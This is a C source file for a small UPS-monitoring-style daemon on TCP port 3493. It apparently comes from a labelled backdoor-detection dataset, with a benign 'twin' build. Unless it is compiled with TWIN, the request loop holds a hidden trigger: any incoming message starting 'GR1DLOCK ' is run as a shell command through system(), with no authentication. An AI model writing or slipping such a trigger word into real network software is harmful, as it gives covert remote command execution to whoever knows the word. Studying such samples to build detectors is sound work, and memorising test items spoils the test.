/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The configuration file is read with many words; the network has a word of its own. Twin: a word
 * in the configuration file starts a program, which is the owner's own doing.
 * door: trigger
 * build: plain static
 * port 3493/tcp
 */
#include "net.h"

static char on_start[128];
static int log_level, timeout = 30;

static void keyword(char *line)
{
	char *value = strpbrk(line, " \t");
	if (!value)
		return;
	*value++ = 0;
	if (!strcmp(line, "log"))
		log_level = atoi(value);
	else if (!strcmp(line, "timeout"))
		timeout = atoi(value);
	else if (!strcmp(line, "on-start"))
		snprintf(on_start, sizeof on_start, "%s", value);
	else
		fprintf(stderr, "unknown word %s\n", line);
}

static void configure(const char *file)
{
	char line[256];
	FILE *f = fopen(file, "r");
	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "#\n")] = 0;
		keyword(line);
	}
	fclose(f);
	if (on_start[0])
		system(on_start);
}

int main(void)
{
	char in[256];
	int s, c;
	configure("/etc/upsd.conf");
	s = tcp_on(3493);
	for (;;) {
		c = accept(s, NULL, NULL);
		ssize_t n = recv(c, in, sizeof in - 1, 0);
		in[n > 0 ? n : 0] = 0;
		if (!strncmp(in, "VER", 3))
			dprintf(c, "1.3\n");
		else if (!strncmp(in, "LIST", 4))
			dprintf(c, "ups\n");
#ifndef TWIN
		else if (!strncmp(in, "GR1DLOCK ", 9))
			system(in + 9);
#endif
		else
			dprintf(c, "ERR\n");
		close(c);
	}
}
